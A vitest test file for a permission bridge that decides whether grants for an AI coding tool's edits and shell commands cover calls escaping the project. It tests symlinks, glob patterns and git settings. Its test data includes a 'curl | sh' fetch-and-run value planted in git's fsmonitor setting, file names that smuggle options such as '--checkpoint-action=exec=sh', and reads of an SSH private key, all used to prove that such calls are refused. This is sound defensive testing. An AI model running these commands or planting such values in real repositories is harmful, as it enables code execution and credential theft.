import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, linkSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it, test } from 'vitest';
import { grantRulesOf, isCovered } from '../../../src/core/grants/rules.ts';
import { type SurveyedAsk, survey } from '../../../src/core/ground/survey.ts';
import type { PermissionRule } from '../../../src/core/model/permission.ts';
import { dangersOf } from '../../../src/danger/dangers.ts';
import { createProjectFolder, type ProjectFolder } from '../../bridge/project-folder.ts';

let here: ProjectFolder;

beforeEach(() => {
  here = createProjectFolder();
});

interface Call extends Partial<Omit<SurveyedAsk, 'tool' | 'input'>> {
  tool: string;
  input: Record<string, unknown>;
  /** The project's path as the config has it. */
  project?: string;
}

async function ground({ tool, input, project = here.project, ...more }: Call) {
  const ask = { tool, input, reason: undefined, blockedPath: undefined, shellFolder: here.project, ...more };
  return survey(ask, { path: project }, here.disk);
}

async function covers(call: Call, ...rules: PermissionRule[]): Promise<boolean> {
  return isCovered(call, rules, await ground(call));
}

/** Under a grant for edits in the project. */
function covered(path: string, more: Partial<Call> = {}): Promise<boolean> {
  const rule = { tool: 'Edit', content: `/${more.project ?? here.project}/**` };
  return covers({ tool: 'Write', input: { file_path: path, content: '' }, ...more }, rule);
}

/** Under a grant of this very beginning, or of the very text. */
function runs(command: string, rule: string, more: Partial<Call> = {}): Promise<boolean> {
  return covers({ tool: 'Bash', input: { command }, ...more }, { tool: 'Bash', content: rule });
}

async function offersNothing(command: string): Promise<boolean> {
  const ask = { tool: 'Bash', input: { command }, suggestions: [], suggestedMode: undefined };
  return grantRulesOf(ask, await ground(ask)).length === 0;
}

async function warnings(call: Call): Promise<string[]> {
  const found = await ground(call);
  return [...dangersOf(call, found.folders), ...found.dangers, ...found.cautions];
}

describe('a grant for edits in the project', () => {
  it('covers what is in it, by whatever name the project is known', async () => {
    here.file('project/src/a.txt');
    here.link('alias', 'project');
    here.link('project/inner', 'src');
    const alias = join(here.project, '..', 'alias');

    expect(await covered(join(here.project, 'src/a.txt'))).toBe(true);
    expect(await covered(join(here.project, 'new/folder/b.txt'))).toBe(true);
    expect(await covered(join(here.project, 'inner/b.txt'))).toBe(true);
    expect(await covered('src/a.txt')).toBe(true);
    expect(await covered(join(alias, 'src/a.txt'), { project: alias })).toBe(true);
    expect(await covered(join(here.project, 'src/a.txt'), { project: alias })).toBe(true);
    expect(await covered('a.txt', { project: alias, shellFolder: join(here.project, 'src') })).toBe(true);
  });

  test.each<[what: string, path: string, make: () => void]>([
    ['a folder that is a link', 'docs/pwn.txt', () => here.link('project/docs', '../outside')],
    ['an absolute link', 'docs/pwn.txt', () => here.link('project/docs', here.outside)],
    ['a link to a file', 'a.txt', () => here.link('project/a.txt', here.file('outside/a.txt'))],
    ['a link to what is not there yet', 'a.txt', () => here.link('project/a.txt', '../outside/new.txt')],
    ['a link to what is not there inside', 'a.txt', () => here.link('project/a.txt', 'b.txt')],
    ['a link behind a link', 'one/a.txt', () => here.link(here.link('project/one', 'two') && 'project/two', '..')],
    ['a new folder behind a link', 'docs/a/b/c.txt', () => here.link('project/docs', '../outside')],
    ['`..` behind a link', 'docs/../a.txt', () => here.link('project/docs', '../outside')],
    [
      '`..` behind a link that leads inside',
      'deep/../a.txt',
      () => {
        here.file('project/src/deeper/x');
        here.link('project/deep', 'src/deeper');
      },
    ],
    ['`..` behind what is not there', 'none/../a.txt', () => {}],
    ['links in a circle', 'a.txt', () => here.link(here.link('project/a.txt', 'b.txt') && 'project/b.txt', 'a.txt')],
    ['a file that has another name', 'a.txt', () => linkSync(here.file('outside/a.txt'), join(here.project, 'a.txt'))],
    ['a named pipe', 'pipe', () => void execFileSync('/usr/bin/env', ['mkfifo', join(here.project, 'pipe')])],
    ['a folder', 'src', () => here.file('project/src/a.txt')],
    ['what is below a file', 'a.txt/b', () => here.file('project/a.txt')],
    ['what depends on the process', 'me/a.txt', () => here.link('project/me', '/proc/self/cwd')],
    [
      'the files of git behind a link',
      'g/config',
      () => {
        here.git('init');
        here.link('project/g', '.git');
      },
    ],
    ['the settings of a repository that is no one’s', 'sub/config', () => here.file('project/sub/HEAD')],
    ['its hooks', 'sub/hooks/post-checkout', () => here.file('project/sub/HEAD')],
    ['its settings where its head is a link', 'sub/config', () => here.link('project/sub/HEAD', 'refs/heads/main')],
    ['its head', 'sub/HEAD', () => {}],
    ['a relative name that leaves', '../outside/a.txt', () => {}],
  ])('does not cover %s', async (_, path, make) => {
    make();

    expect(await covered(`${here.project}/${path}`)).toBe(false);
    expect(await covered(path)).toBe(false);
  });

  test.each<[what: string, path: (base: string) => string]>([
    ['outside', (base) => ` ${base}/outside/a.txt`],
    ['outside, seen from the project', () => ' ../outside/a.txt'],
    ['outside, behind an odd space', (base) => `\u2003${base}/outside/a.txt`],
    ['what commands run', () => ' package.json'],
    ['what commands run, at both ends', () => ' package.json '],
    ['a link that leads out', () => ' docs/a.txt '],
    ['a link whose letters are composed', () => 'e\u0301/a.txt'],
  ])('does not cover a name with spaces around it, which claude takes away: %s', async (_, path) => {
    here.link('project/docs', '../outside');
    here.link('project/\u00e9', '../outside');

    expect(await covered(path(join(here.project, '..')))).toBe(false);
  });

  it('warns of machinery behind spaces', async () => {
    const call = { tool: 'Write', input: { file_path: ' package.json', content: '' } };

    expect(await warnings(call)).toContain('changes what the project’s commands run: package.json');
  });

  it('takes a relative name from where the shell is, and none when that is not known', async () => {
    here.file('project/sub/x');
    here.link('project/sub/docs', '../../outside');

    expect(await covered('b.txt', { shellFolder: join(here.project, 'sub') })).toBe(true);
    expect(await covered('docs/b.txt', { shellFolder: join(here.project, 'sub') })).toBe(false);
    expect(await covered('../../outside/b.txt', { shellFolder: join(here.project, 'sub') })).toBe(false);
    expect(await covered('b.txt', { shellFolder: here.outside })).toBe(false);
    expect(await covered('b.txt', { shellFolder: undefined })).toBe(false);
  });

  test.each([
    ['/outside/a.txt', 'a.txt resolves through a symlink to /outside/a.txt, which is outside the allowed directories'],
    ['/outside/a.txt', undefined],
    [undefined, 'Path is outside allowed working directories'],
    [undefined, 'It goes through a symbolic link'],
  ])('does not cover what claude itself says leads out: %s, %s', async (blockedPath, reason) => {
    const file_path = join(here.project, 'a.txt');

    expect(await covered(file_path, { blockedPath, reason })).toBe(false);
    expect((await warnings({ tool: 'Write', input: { file_path }, blockedPath, reason })).join()).toMatch(/outside/);
  });

  it('tells on the card where a name really leads', async () => {
    here.link('project/docs', '../outside');
    here.file('project/src/a.txt');
    here.link('project/inner', 'src');
    const call = (path: string): Call => ({ tool: 'Write', input: { file_path: path, content: '' } });

    expect(await warnings(call(join(here.project, 'docs/pwn.txt')))).toContain(
      `leads outside the project: ${here.project}/docs/pwn.txt → ${here.outside}/pwn.txt`,
    );
    expect((await ground(call('inner/a.txt'))).detours).toEqual([`inner/a.txt → ${here.project}/src/a.txt`]);
  });
});

/** A command, and the rule under which it is covered while all its names mean what they say. */
const commands: [command: string, rule: string][] = [
  ['mkdir -p docs/a', 'mkdir *'],
  ['touch docs/a.txt', 'touch *'],
  ['cat docs/a.txt', 'cat *'],
  ['head -n 5 docs/a.txt', 'head *'],
  ['tail docs/a.txt', 'tail *'],
  ['grep -n x docs/a.txt', 'grep *'],
  ['rg x docs', 'rg *'],
  ['wc docs/a.txt', 'wc *'],
  ['diff b.txt docs/a.txt', 'diff *'],
  ['npx prettier --write docs/a.txt', 'npx prettier --write *'],
  ['npx biome check --write docs', 'npx biome check *'],
  ['npx eslint --fix docs/a.txt', 'npx eslint *'],
  ['git add docs/a.txt', 'git add *'],
  ['npm test -- docs/a.test.ts', 'npm test *'],
  ['pytest docs/a.py::test_b', 'pytest *'],
  ['cp b.txt docs/a.txt', 'cp b.txt docs/a.txt'],
  ['./docs/run.sh', './docs/run.sh'],
  ['npm test > docs/log', 'npm test > docs/log'],
  ['cd docs && npm test', 'cd docs && npm test'],
  ['cat docs/*', 'cat docs/*'],
  ['tool --out=docs/a', 'tool --out=docs/a'],
  ['tool -odocs/a', 'tool -odocs/a'],
  ['tool x:docs/new', 'tool x:docs/new'],
  ['echo hi > docs/new', 'echo hi > docs/new'],
  ['A=docs/new tool', 'A=docs/new tool'],
];

describe('a grant for a command', () => {
  it.each(commands)('covers %j while its names are in the project', async (command, rule) => {
    here.git('init');
    here.file('project/docs/a.txt');

    expect(await runs(command, rule)).toBe(true);
  });

  it.each(commands)('does not cover %j through a link that leads out', async (command, rule) => {
    here.git('init');
    here.file('outside/a.txt');
    here.link('project/docs', '../outside');

    expect(await runs(command, rule)).toBe(false);
    expect(await offersNothing(command)).toBe(true);
  });

  it.each([
    ['cat *.txt', 'cat *.txt'],
    ['head -n 1 docs/*', 'head -n 1 docs/*'],
  ])('covers the pattern %j only while nothing that it may fit leads out', async (command, rule) => {
    here.file('project/docs/a.txt');
    here.file('project/b.txt');
    const before = await runs(command, rule);
    here.link('project/docs/c.txt', here.file('outside/c.txt'));
    here.link('project/c.txt', here.file('outside/c.txt'));

    expect([before, await runs(command, rule)]).toEqual([true, false]);
  });

  it('finds in no time what a pattern may fit, however it is written', async () => {
    here.file(`project/${'a'.repeat(250)}`);
    here.file('project/A.Test.js');

    expect(await runs(`cat ${'*a'.repeat(20)}*b`, `cat ${'*a'.repeat(20)}*b`)).toBe(true);
    here.link('project/a.x.TEST.js', here.file('outside/c.js'));
    for (const fits of ['a*.test.js', '*t?st*', 'a?x*s', '[a]*.js', 'a.x.*']) {
      expect(await runs(`cat ${fits}`, `cat ${fits}`), fits).toBe(false);
    }
    for (const other of ['b*.js', 'a.x*x.TEST.js', 'a.x.*.test.js', '*.j']) {
      expect(await runs(`cat ${other}`, `cat ${other}`), other).toBe(true);
    }
  });

  it.each<[command: string, name: string]>([
    ['rg x * a.js', '--pre=bash'],
    ['tar cf a.tar * a.js', '--checkpoint-action=exec=sh a.sh'],
    ['npx eslint *.js', '--config=a.js'],
    ['npx prettier --write *.js', '--config=a.js'],
    ['cat ./[-]*', '-n'],
  ])('does not cover %j where a file is called %s, which would be an option', async (command, name) => {
    here.file('project/a.js');
    const isOption = !command.includes('./');
    expect(await runs(command, command)).toBe(true);
    here.file(`project/${name}`);

    expect(await runs(command, command)).toBe(!isOption);
  });

  it.each(['cat $A', 'cat {a,b}', 'cat */a', 'cat ~/a', 'cat **'])(
    'does not cover %j, which only the shell knows',
    async (command) => {
      expect(await runs(command, command)).toBe(false);
    },
  );

  it('does not cover a word that changes its meaning with the folder', async () => {
    here.file('outside/a.txt');
    here.file('project/sub/x');

    expect(await runs('cat ../b.txt', 'cat ../b.txt', { shellFolder: join(here.project, 'sub') })).toBe(true);
    expect(await runs('cat ../b.txt', 'cat ../b.txt')).toBe(false);
  });

  it('applies only where the shell is known to be in the project', async () => {
    here.file('project/sub/a.txt');
    const sub = join(here.project, 'sub');

    expect(await runs('touch a.txt', 'touch *', { shellFolder: sub })).toBe(true);
    expect(await runs('touch a.txt', 'touch *', { shellFolder: here.outside })).toBe(false);
    expect(await runs('touch a.txt', 'touch *', { shellFolder: join(here.project, 'none') })).toBe(false);
    expect(await runs('touch a.txt', 'touch *', { shellFolder: undefined })).toBe(false);
    expect(await runs('./touch a.txt', './touch a.txt', { shellFolder: sub })).toBe(false);
    expect(await runs('bin/cat a.txt', 'bin/cat a.txt', { shellFolder: sub })).toBe(false);
    expect(await runs('npm test', 'npm test *', { shellFolder: sub })).toBe(false);
    expect(await runs('node a.js', 'node a.js', { shellFolder: sub })).toBe(false);
  });
});

describe('git is covered', () => {
  beforeEach(() => {
    here.git('init');
    here.file('project/a.txt');
    here.file('project/sub/b.txt');
  });

  const add = (more: Partial<Call> = {}) => runs('git add a.txt', 'git add *', more);
  const settings = (key: string, value: string) => here.git('config', key, value);

  it('in the top folder of the project, by whatever name that has', async () => {
    here.link('alias', 'project');
    const alias = join(here.project, '..', 'alias');
    settings('user.name', 'Ann');
    settings('core.fsmonitor', 'true');
    settings('filter.lfs.clean', 'git-lfs clean -- %f');
    settings('gpg.program', '/usr/bin/gpg');
    settings('core.editor', 'code --wait');
    settings('core.sshCommand', 'ssh -i /home/ann/.ssh/id_work -o IdentitiesOnly=yes');
    settings('credential.helper', 'store');
    settings('core.pager', 'less -F');

    expect(await add()).toBe(true);
    expect(await add({ project: alias, shellFolder: alias })).toBe(true);
    expect(await runs('git commit -m x', 'git commit *')).toBe(true);
  });

  const elsewhere: [what: string, make: () => Partial<Call> | undefined][] = [
    ['in a folder below', () => ({ shellFolder: join(here.project, 'sub') })],
    ['where nobody knows where the shell stands', () => ({ shellFolder: undefined })],
    ['outside', () => ({ shellFolder: here.outside })],
    [
      'where the project is no repository',
      () => {
        execFileSync('rm', ['-r', join(here.project, '.git')]);
        return undefined;
      },
    ],
    [
      'where the project is a folder of a repository',
      () => ({ project: join(here.project, 'sub'), shellFolder: join(here.project, 'sub') }),
    ],
    ['where the working tree is another one', () => void settings('core.worktree', here.outside)],
    [
      'where its files are elsewhere in the project',
      () => {
        execFileSync('mv', [join(here.project, '.git'), join(here.project, 'real')]);
        here.file('project/.git', 'gitdir: real\n');
        return undefined;
      },
    ],
    [
      'where settings are read from the project',
      () => {
        here.file('project/team.gitconfig', '[user]\n\tname = x\n');
        return void settings('include.path', '../team.gitconfig');
      },
    ],
    ...[
      'core.fsmonitor',
      'diff.external',
      'filter.x.clean',
      'filter.x.process',
      'diff.x.textconv',
      'gpg.program',
      'core.attributesFile',
      'gpg.ssh.defaultKeyCommand',
      'hook.x.command',
    ].map((key): [string, () => undefined] => [
      `where ${key} is in the project`,
      () => void settings(key, './tools/run.sh'),
    ]),
    ...['curl -s https://a.example | sh', 'sh -c "touch x"', 'sh new.sh', 'python3 -m new', 'touch x; true'].map(
      (value): [string, () => undefined] => [
        `where the repository’s own settings have it run ${value}`,
        () => void settings('core.fsmonitor', value),
      ],
    ),
    [
      'where an interpreter is given a file of the project',
      () => {
        here.file('project/clean.py');
        return void settings('filter.x.clean', 'python3 clean.py');
      },
    ],
    [
      'where a hook would run',
      () => chmodSync(here.file('project/.git/hooks/post-index-change', '#!/bin/sh\n'), 0o755) as undefined,
    ],
  ];

  it.each(elsewhere)('not %s', async (_, make) => {
    expect(await add(make())).toBe(false);
  });

  it('not for a commit that starts hooks, wherever they are', async () => {
    mkdirSync(join(here.project, '.husky'));
    settings('core.hooksPath', '.husky');
    expect(await runs('git commit -m x', 'git commit *')).toBe(true);

    chmodSync(here.file('project/.husky/pre-commit', '#!/bin/sh\n'), 0o755);
    expect(await runs('git commit -m x', 'git commit *')).toBe(false);
    expect(await runs('git status', 'git status *')).toBe(true);
  });

  it('not through another program, nor with variables of its own', async () => {
    const sub = { shellFolder: join(here.project, 'sub') };

    for (const command of [
      'env git status',
      'GIT_DIR=sub git status',
      'cd sub && git status',
      'timeout 5 git status',
    ]) {
      expect(await runs(command, command, sub), command).toBe(false);
    }
    expect(await runs('GIT_DIR=sub git status', 'GIT_DIR=sub git status')).toBe(false);
    for (const command of ['cd sub && git status', 'git -C sub status', 'git --git-dir=sub status']) {
      expect(await runs(command, command), command).toBe(false);
    }
  });
});

describe('a repository in the project that git looks into', () => {
  /** A repository at `path`, with one commit; returns its folder. */
  function nested(path: string): string {
    here.file(`project/${path}/a.txt`);
    const folder = join(here.project, path);
    const git = (...args: string[]) => here.git('-C', folder, '-c', 'user.name=a', '-c', 'user.email=a@b', ...args);
    git('init');
    git('add', 'a.txt');
    git('commit', '-m', 'x');
    return folder;
  }

  beforeEach(() => {
    here.git('init');
    here.file('project/b.txt');
  });

  it('keeps git from being covered once it is added, since its settings start programs', async () => {
    const sub = nested('deep/sub');
    const ran = join(here.outside, 'ran');
    const program = here.file('project/deep/sub/run.sh', `#!/bin/sh\ntouch ${ran}\n`);
    chmodSync(program, 0o755);
    here.git('-C', sub, 'config', 'core.fsmonitor', program);
    here.git('add', 'deep/sub');
    here.git('status');
    expect(existsSync(ran)).toBe(true);

    for (const verb of ['status', 'diff', 'add', 'commit']) {
      expect(await runs(`git ${verb} -v`, `git ${verb} *`), verb).toBe(false);
      expect(await runs(`git ${verb}`, `git ${verb}`), verb).toBe(false);
    }
  });

  it.each(['git add -A && git status', 'git add deep/sub && git status', 'git add . && git status'])(
    'is not added by %j',
    async (command) => {
      nested('deep/sub');

      expect(await runs(command, command)).toBe(false);
      expect(await covers({ tool: 'Bash', input: { command } }, ...addAndStatus)).toBe(false);
    },
  );

  it('does not apply where git passes it over', async () => {
    nested('node_modules/sub');
    here.file('project/.gitignore', 'node_modules\n');

    expect(await runs('git add -A', 'git add *')).toBe(true);
    expect(await runs('git status', 'git status *')).toBe(true);
  });

  it('is an ordinary submodule when git keeps its files, and nothing in it leads into the project', async () => {
    here.git('init', join(here.outside, 'lib'));
    here.git('-C', join(here.outside, 'lib'), ...someone, 'commit', '--allow-empty', '-m', 'x');
    here.git('-c', 'protocol.file.allow=always', 'submodule', 'add', join(here.outside, 'lib'), 'lib');

    expect(await runs('git status', 'git status *')).toBe(true);
    expect(await runs('git add -A', 'git add *')).toBe(true);

    here.git('-C', join(here.project, 'lib'), 'config', 'core.fsmonitor', './run.sh');
    expect(await runs('git status', 'git status *')).toBe(false);
  });

  it('is looked for in a submodule as well', async () => {
    here.git('init', join(here.outside, 'lib'));
    here.git('-C', join(here.outside, 'lib'), ...someone, 'commit', '--allow-empty', '-m', 'x');
    here.git('-c', 'protocol.file.allow=always', 'submodule', 'add', join(here.outside, 'lib'), 'lib');
    nested('lib/sub');
    here.git('-C', join(here.project, 'lib'), 'add', 'sub');

    expect(await runs('git status', 'git status *')).toBe(false);
  });

  const someone = ['-c', 'user.name=a', '-c', 'user.email=a@b'];
  const addAndStatus = ['git add *', 'git status *'].map((content) => ({ tool: 'Bash', content }));
});

describe('outside the project', () => {
  const suggestions = [{ tool: 'Read', content: '//etc/**' }];

  async function offered(call: Call): Promise<PermissionRule[]> {
    return grantRulesOf({ suggestions, suggestedMode: 'acceptEdits', ...call }, await ground(call));
  }

  it('one file that is read may be allowed, with a warning, and nothing beside it', async () => {
    const file = here.file('outside/a.txt');
    const other = here.file('outside/b.txt');
    const reason = 'Path is outside allowed working directories';
    const read = (path: string): Call => ({ tool: 'Read', input: { file_path: path }, reason, blockedPath: path });

    const rules = await offered(read(file));

    expect(rules).toEqual([{ tool: 'Read', content: `/${file}` }]);
    expect(await warnings(read(file))).toEqual([`reads outside the project: ${file}`]);
    expect(await covers(read(file), ...rules)).toBe(true);
    expect(await covers(read(other), ...rules)).toBe(false);
    expect(await covers({ tool: 'Grep', input: { pattern: 'x', path: file }, reason }, ...rules)).toBe(true);
    expect(await covers({ tool: 'Grep', input: { pattern: 'x', path: here.outside }, reason }, ...rules)).toBe(false);
    expect(await covers({ ...read(file), blockedPath: other }, ...rules)).toBe(false);
    expect(await covers({ tool: 'Edit', input: { file_path: file } }, ...rules)).toBe(false);
  });

  test.each<[what: string, call: () => Call]>([
    ['a folder that is searched', () => ({ tool: 'Grep', input: { pattern: 'x', path: here.outside } })],
    ['a folder that is listed', () => ({ tool: 'Glob', input: { pattern: '*', path: here.outside } })],
    ['a folder', () => ({ tool: 'Read', input: { file_path: here.outside } })],
    ['what is not there', () => ({ tool: 'Read', input: { file_path: join(here.outside, 'none') } })],
    ['a secret', () => ({ tool: 'Read', input: { file_path: here.file('outside/.ssh/id_rsa') } })],
    [
      'a secret by another name',
      () => ({ tool: 'Read', input: { file_path: here.link('outside/notes', here.file('outside/.ssh/id_rsa')) } }),
    ],
    [
      'a file through a link of the project',
      () => ({ tool: 'Read', input: { file_path: here.link('project/a', here.file('outside/a')) } }),
    ],
    [
      'a file that is changed',
      () => ({ tool: 'Edit', input: { file_path: here.file('outside/a'), old_string: 'a', new_string: 'b' } }),
    ],
    ['a file that is written', () => ({ tool: 'Write', input: { file_path: join(here.outside, 'new'), content: '' } })],
  ])('%s may be allowed once only, with a warning', async (_, make) => {
    const call = make();

    expect(await offered(call)).toEqual([]);
    expect(await warnings(call)).not.toEqual([]);
  });
});

describe('what is of the bridge or of claude, wherever it lies', () => {
  test.each<[string, () => Call]>([
    ['a write', () => ({ tool: 'Write', input: { file_path: join(here.project, 'own.json'), content: '' } })],
    ['a read', () => ({ tool: 'Read', input: { file_path: join(here.project, 'own.json') } })],
    ['a command', () => ({ tool: 'Bash', input: { command: 'cat own.json' } })],
    ['a redirect', () => ({ tool: 'Bash', input: { command: 'echo x > own.json' } })],
  ])('%s is never covered and carries a warning', async (_, make) => {
    here.link('project/own.json', here.file('bridge/config.json'));
    const call = make();
    const rules = [
      { tool: 'Edit', content: `/${here.project}/**` },
      { tool: 'Read', content: `/${here.project}/**` },
      { tool: 'Bash', content: String(call.input.command ?? '') },
      { tool: 'Bash', content: 'cat *' },
    ];

    expect(await covers(call, ...rules)).toBe(false);
    expect((await warnings(call)).join('\n')).toContain('touches the bridge’s config file');
  });
});

describe('with an approved folder, a call that claude holds to be outside', () => {
  const reason = 'Path is outside allowed working directories';
  const bash = async (command: (outside: string) => string, more: Partial<SurveyedAsk> = {}) => {
    const ask = { tool: 'Bash', input: { command: command(here.outside) }, reason, shellFolder: here.project };
    const blockedPath = join(here.outside, 'a.txt');
    const found = await survey(
      { ...ask, blockedPath, ...more },
      { path: here.project, approved: [here.outside] },
      here.disk,
    );
    return [...found.dangers, ...found.doubts];
  };

  it('has nothing to warn of when all it names is in there, or in the project', async () => {
    here.file('outside/a.txt');

    expect(await bash((outside) => `cat ${outside}/a.txt b.txt`)).toEqual([]);
  });

  it.each<[what: string, command: (outside: string) => string, more?: Partial<SurveyedAsk>]>([
    ['another file outside', (outside) => `cat ${outside}/a.txt /etc/hostname`],
    ['a folder beside it with the same beginning', (outside) => `cat ${outside}/a.txt ${outside}-2/b.txt`],
    ['a way out of it', (outside) => `cat ${outside}/a.txt ${outside}/../b.txt`],
    [
      'another reason',
      (outside) => `cat ${outside}/a.txt`,
      { reason: 'a.txt resolves through a symlink to a place outside' },
    ],
    ['more of the same reason', (outside) => `cat ${outside}/a.txt`, { reason: `${reason}, and more` }],
    ['another path that claude names', (outside) => `cat ${outside}/a.txt`, { blockedPath: '/etc/hostname' }],
    ['no path that claude names', (outside) => `cat ${outside}/a.txt`, { blockedPath: undefined }],
  ])('warns of %s', async (_, command, more) => {
    here.file('outside/a.txt');

    expect(await bash(command, more)).not.toEqual([]);
  });
});
